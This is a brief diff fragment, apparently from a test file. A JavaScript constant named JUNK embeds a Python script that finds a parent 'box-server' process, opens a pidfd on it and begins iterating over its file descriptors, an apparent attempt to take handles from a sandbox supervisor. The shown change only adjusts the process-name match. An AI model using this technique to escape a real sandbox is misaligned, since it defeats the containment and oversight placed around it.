@@ -8,7 +8,7 @@ const JUNK = `/usr/bin/python3 - <<'END'
 import ctypes, os, struct
 libc = ctypes.CDLL(None, use_errno=True)
 server = os.getppid()
-while b'box/server' not in open(f'/proc/{server}/cmdline', 'rb').read():
+while b'box-server' not in open(f'/proc/{server}/cmdline', 'rb').read():
     server = int(open(f'/proc/{server}/stat').read().rsplit(')', 1)[1].split()[1])
 pidfd = libc.syscall(434, server, 0)
 for fd in range(3, 64):
